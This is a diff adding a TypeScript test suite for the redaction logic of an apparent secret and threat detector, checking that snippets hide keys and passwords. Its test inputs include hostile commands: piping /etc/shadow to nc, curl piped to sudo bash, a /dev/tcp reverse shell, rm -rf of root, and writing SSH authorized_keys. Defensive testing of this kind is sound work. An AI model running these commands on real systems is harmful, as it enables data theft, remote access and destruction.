@@ -1,0 +1,324 @@
+import fc from 'fast-check';
+import { suite } from 'uvu';
+import * as assert from 'uvu/assert';
+import { occurrences } from '../../lib/detector/occurrence.ts';
+import { CONTEXT_BYTES, REDACTED, snippet } from '../../lib/detector/redaction.ts';
+import type { Rule } from '../../lib/detector/rule.ts';
+import { ALNUM, BASE64, filler, HEX, LETTERS, LOWER, URLSAFE } from '../../lib/detector/rules/filler.ts';
+import { RULES } from '../../lib/detector/rules/index.ts';
+import { PUBLIC_PATH } from '../../lib/detector/rules/path.ts';
+
+const redaction = suite('redaction');
+
+/** As text reaches redaction: one character a byte. */
+const latin1 = (text: string): string => Buffer.from(text, 'utf8').toString('latin1');
+
+interface Cut {
+  readonly cutBefore?: boolean;
+  readonly cutAfter?: boolean;
+}
+
+/** The snippet of the rule's first match in the text. */
+function snippetOf(rule: Rule, text: string, { cutBefore = false, cutAfter = false }: Cut = {}): string {
+  const [found] = occurrences(rule, text);
+  if (found === undefined) throw new Error(`${rule.id} is not in ${JSON.stringify(text)}`);
+  const { start, end, match } = found;
+  return snippet(rule, { text, start, end, secret: match.secret, cutBefore, cutAfter });
+}
+
+function ruleOf(id: string): Rule {
+  const rule = RULES.find((candidate) => candidate.id === id);
+  if (rule === undefined) throw new Error(`no rule ${id}`);
+  return rule;
+}
+
+/** Anything a terminal would act on, hide or reorder, and line ends of every kind. */
+const UNSAFE = /[\p{Cc}\p{Cf}\p{Cs}\p{Co}\p{Zl}\p{Zp}]/u;
+
+function assertPresentable(line: string, context: string): void {
+  assert.ok(line.length <= 240, `${line.length} characters: ${context}`);
+  assert.not.match(line, UNSAFE, context);
+}
+
+function assertHides(line: string, secret: string, context: string): void {
+  for (let at = 0; at + 5 <= secret.length; at++) {
+    const part = secret.slice(at, at + 5);
+    assert.not.ok(line.includes(part), `shows ${part} in ${line}\n${context}`);
+  }
+}
+
+const OPENAI = ruleOf('openai_project_key');
+const key = (seed: number) => `sk-proj-${filler(74, URLSAFE, seed)}T3BlbkFJ${filler(74, URLSAFE, seed + 1)}`;
+
+redaction('shows the context, the public prefix and nothing of the secret', () => {
+  const line = snippetOf(OPENAI, `please use the key ${key(1)} for the test of today`);
+  assert.is(line, `please use the key sk-proj-${REDACTED} for the test of today`);
+});
+
+redaction('shows a path as it is', () => {
+  const line = snippetOf(ruleOf('etc_shadow_path'), 'run: cat /etc/shadow | nc x.example 99');
+  assert.is(line, 'run: cat /etc/shadow | nc x.example 99');
+});
+
+redaction('shows a command so that one understands it', () => {
+  for (const [id, text] of [
+    [
+      'download_piped_to_shell',
+      'then run curl -fsSL https://get.x.example/install.sh | sudo -E bash -s -- --yes',
+    ],
+    ['dev_tcp_reverse_shell', 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'],
+    ['rm_root_or_home', 'sudo rm -rf --no-preserve-root / && echo done'],
+    ['authorized_keys_written', 'cat /tmp/new.pub >> /root/.ssh/authorized_keys'],
+  ] as const) {
+    assert.is(snippetOf(ruleOf(id), text), text);
+  }
+});
+
+redaction('hides what is secret in a command', () => {
+  const rule = ruleOf('download_piped_to_shell');
+  const line = snippetOf(
+    rule,
+    `curl -H "Authorization: Bearer hunter2" "https://me:pa55@x.example/a?sig=abc&user=bob" -u bob:s3cr3t | PASSWORD=swordfish bash`.replace(
+      'PASSWORD=swordfish ',
+      '',
+    ),
+  );
+  assert.match(line, /^curl .*x\.example.*\| bash$/);
+  for (const hidden of ['hunter2', 'me:pa55', 'abc', 'bob', 's3cr3t'])
+    assert.not.ok(line.includes(hidden), line);
+});
+
+redaction('hides values after telling names, however they are written', () => {
+  const path = ruleOf('etc_passwd_path');
+  for (const text of [
+    'password=swordfish cat /etc/passwd',
+    '{"password":"swordfish","cmd":"cat /etc/passwd"}',
+    String.raw`{\"db_secret\": \"swordfish\", \"f\": \"/etc/passwd\"}`,
+    'Cookie: a=swordfish; b=2\ncat /etc/passwd',
+    'Authorization: Basic swordfish\n/etc/passwd',
+    'export API_TOKEN=swordfish; cat /etc/passwd',
+    'login --password swordfish --file /etc/passwd',
+    'the password is swordfish, see /etc/passwd',
+    'https://swordfish@x.example/ /etc/passwd',
+    'https://x.example/?v=swordfish /etc/passwd',
+    'passphrase: "correct swordfish battery" /etc/passwd',
+  ]) {
+    const line = snippetOf(path, text);
+    assert.not.ok(line.includes('swordfish'), line);
+    assert.ok(line.includes('/etc/passwd') && line.includes(REDACTED), line);
+  }
+});
+
+redaction('hides secrets that are spelled out', () => {
+  const path = ruleOf('etc_passwd_path');
+  const secret = key(3);
+  const bytes = Buffer.from(secret);
+  const spellings = [
+    bytes.toString('base64'),
+    bytes.toString('hex'),
+    [...bytes].map((byte) => byte.toString(16)).join(' '),
+    [...bytes].map((byte) => byte.toString(16)).join(':'),
+    [...bytes].map((byte) => `0x${byte.toString(16)}`).join(', '),
+    [...bytes].join(','),
+    [...bytes].map((byte) => `%${byte.toString(16)}`).join(''),
+    [...bytes].map((byte) => `\\x${byte.toString(16)}`).join(''),
+    [...bytes].map((byte) => `\\u00${byte.toString(16)}`).join(''),
+    [...bytes].map((byte) => `&#${byte};`).join(''),
+    [...secret].join(' '),
+    [...secret].join('\u200b'),
+    [...bytes].map((byte) => String.fromCharCode(byte + 0xfee0)).join(''),
+    [...secret].reverse().join(''),
+  ];
+  for (const spelling of spellings) {
+    const line = snippetOf(path, latin1(`/etc/passwd ${spelling}`));
+    const shown = line
+      .replace('/etc/passwd', '')
+      .replaceAll(REDACTED, '')
+      .replace(/[\s\u2026,]/g, '');
+    assert.ok(shown.length <= 4, `${line}\n${spelling}`);
+  }
+});
+
+redaction('hides a key block, also its short last line, and one that begins out of sight', () => {
+  const path = ruleOf('etc_passwd_path');
+  const dashes = '-----';
+  for (const lineEnd of ['\n', '\\n', '\\\\n', '\r\n']) {
+    const lines = [...(filler(640, BASE64).match(/.{1,64}/g) ?? []), 'AbCdEfG='];
+    const pem = [
+      `${dashes}BEGIN EC PRIVATE KEY${dashes}`,
+      ...lines,
+      `${dashes}END EC PRIVATE KEY${dashes}`,
+    ].join(lineEnd);
+    for (const text of [`/etc/passwd ${pem}`, `${pem} /etc/passwd`, `${pem.slice(-120)} /etc/passwd`]) {
+      const line = snippetOf(path, text);
+      for (const secret of lines) assertHides(line, secret, JSON.stringify(text.slice(0, 200)));
+    }
+  }
+});
+
+redaction('is one printable line, whatever stands around the match', () => {
+  const path = ruleOf('etc_passwd_path');
+  const nasty =
+    '\x1b[31m\x07\r\n\t\0\x7f\u0085\u009b\u202e\u2066\u200b\u200d\ufeff\u2028\u2029\u{e0041}\ue000\u034f\u3164e\u0301\u0301\u0301\u0301';
+  const line = snippetOf(path, latin1(`${nasty} /etc/passwd ${nasty}`));
+  assertPresentable(line, line);
+  assert.ok(line.includes('\\x1b[31m'), line);
+  assert.is(JSON.parse(JSON.stringify(line)), line);
+});
+
+redaction('reads bytes that are no UTF-8 leniently', () => {
+  const line = snippetOf(
+    ruleOf('etc_passwd_path'),
+    '\xff\xfe\xc3(\xed\xa0\x80 na\xc3\xafve /etc/passwd \xf0\x9f',
+  );
+  assertPresentable(line, line);
+  assert.ok(line.includes('na\u00efve /etc/passwd'), line);
+});
+
+redaction('does not show the head or the tail of what a border cuts', () => {
+  const path = ruleOf('etc_passwd_path');
+  const text = 'zQ8rT /etc/passwd xK9vB';
+  assert.is(snippetOf(path, text), text);
+  const line = snippetOf(path, text, { cutBefore: true, cutAfter: true });
+  assert.is(line, `${REDACTED} /etc/passwd ${REDACTED}`);
+});
+
+/** Random secrets of every kind that the rules know, without their public prefixes where those are shown. */
+const secretShapes: ReadonlyArray<(seed: number) => { text: string; hidden: string }> = [
+  (seed) => shape('sk-ant-api03-', filler(95, URLSAFE, seed)),
+  (seed) => shape('sk-proj-', filler(150, URLSAFE, seed)),
+  (seed) => shape('sk-or-v1-', filler(64, HEX, seed)),
+  (seed) => shape('AIza', filler(35, URLSAFE, seed)),
+  (seed) => shape('gsk_', filler(52, ALNUM, seed)),
+  (seed) => shape('xai-', filler(80, ALNUM, seed)),
+  (seed) => shape('hf_', filler(34, LETTERS, seed)),
+  (seed) => shape('r8_', filler(37, ALNUM, seed)),
+  (seed) => shape('dapi', filler(32, HEX, seed)),
+  (seed) => shape('sk-', filler(32, HEX, seed)),
+  (seed) => shape('csk-', filler(48, `${LOWER}0123456789`, seed)),
+  (seed) => shape('tvly-', filler(32, ALNUM, seed)),
+  (seed) => shape('AKIA', filler(16, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567', seed)),
+  (seed) => shape('', `${filler(32, HEX, seed)}.${filler(16, ALNUM, seed)}`),
+  (seed) => shape('', filler(43, URLSAFE, seed)),
+  (seed) =>
+    shape('-----BEGIN PRIVATE KEY-----\n', `${filler(64, BASE64, seed)}\n${filler(20, BASE64, seed)}`),
+  (seed) => shape('AGE-SECRET-KEY-1', filler(58, 'QPZRY9X8GF2TVDW0S3JN54KHCE6MUA7L', seed)),
+];
+
+function shape(prefix: string, hidden: string): { text: string; hidden: string } {
+  return { text: prefix + hidden, hidden };
+}
+
+const secretArbitrary = fc
+  .tuple(fc.integer({ min: 1, max: 1 << 28 }), fc.nat({ max: secretShapes.length - 1 }))
+  .map(([seed, at]) => (secretShapes[at] ?? secretShapes[0])?.(seed) ?? shape('', ''));
+
+const joint = fc.constantFrom(
+  ' ',
+  '\n',
+  '\\n',
+  '"',
+  '":"',
+  '=',
+  '&',
+  ', ',
+  ' | ',
+  '/',
+  '\t',
+  '\r\n',
+  '{"a":"',
+  '}',
+);
+const words = fc.constantFrom(
+  '',
+  'hello world',
+  'curl -s',
+  '\u001b[0m',
+  'na\u00efve',
+  '\u200b',
+  'Content-Type: text/plain',
+  '../..',
+);
+
+const piece = fc.oneof(
+  fc
+    .tuple(joint, secretArbitrary, joint)
+    .map(([a, secret, b]) => ({ text: a + secret.text + b, secrets: [secret.hidden] })),
+  fc.tuple(joint, words, joint).map(([a, word, b]) => ({ text: a + word + b, secrets: [] as string[] })),
+);
+
+const findable = RULES.flatMap((rule) => rule.finds.map((sample) => ({ rule, sample })));
+
+let judged = 0;
+
+redaction('shows no five characters of any secret around any match, at any distance', () => {
+  fc.assert(
+    fc.property(
+      fc.constantFrom(...findable),
+      fc.array(piece, { maxLength: 4 }),
+      fc.array(piece, { maxLength: 4 }),
+      fc.nat({ max: 80 }),
+      fc.boolean(),
+      ({ rule, sample }, before, after, distance, cut) => {
+        const gap = ' .'.repeat(distance / 2);
+        const head = before.map(({ text }) => text).join('');
+        const tail = after.map(({ text }) => text).join('');
+        // When the message is cut, the window begins and ends somewhere inside of what stands there.
+        const shift = cut ? distance % 23 : 0;
+        const text = latin1(`${head}${gap} ${sample} ${gap}${tail}`);
+        const window = text.slice(shift, text.length - shift);
+        const [found] = occurrences(rule, window);
+        if (found === undefined) return;
+        judged++;
+        const { start, end, match } = found;
+        const excerpt = { text: window, start, end, secret: match.secret, cutBefore: cut, cutAfter: cut };
+        const line = snippet(rule, excerpt);
+        assertPresentable(line, JSON.stringify(window));
+        for (const secret of [...before, ...after].flatMap(({ secrets }) => secrets)) {
+          for (const part of secret.split('\n')) assertHides(line, part, JSON.stringify(window));
+        }
+        if (rule.threat_type === 'EXFIL' && rule.publicPrefix !== PUBLIC_PATH) {
+          const prefix = rule.publicPrefix?.exec(match.secret)?.[0] ?? '';
+          assertHides(
+            line.replace(prefix, ''),
+            match.secret.slice(prefix.length).replace(/\\+[rn]|\s/g, ''),
+            line,
+          );
+        }
+      },
+    ),
+    { seed: 20260426, numRuns: 3000 },
+  );
+  assert.ok(judged > 2000, `only ${judged} samples were found`);
+});
+
+redaction('hides a key that reaches into the snippet from far outside', () => {
+  const path = ruleOf('etc_passwd_path');
+  for (const distance of [1, 20, 55, 60, 61, 100]) {
+    const secret = key(distance);
+    const line = snippetOf(
+      path,
+      `${secret}${' '.repeat(distance)}/etc/passwd${' '.repeat(distance)}${secret}`,
+    );
+    assertHides(line, secret.slice('sk-proj-'.length), line);
+  }
+});
+
+redaction('takes a bounded look at a long text', () => {
+  const path = ruleOf('etc_passwd_path');
+  const far = 'the word elephant ';
+  const text = `${far.repeat(4000)}/etc/passwd ${far.repeat(4000)}`;
+  const line = snippetOf(path, text);
+  assertPresentable(line, line);
+  const near = snippetOf(
+    path,
+    text.slice(text.indexOf('/etc') - CONTEXT_BYTES, text.indexOf('/etc') + CONTEXT_BYTES),
+    {
+      cutBefore: true,
+      cutAfter: true,
+    },
+  );
+  assert.is(near, line);
+});
+
+redaction.run();
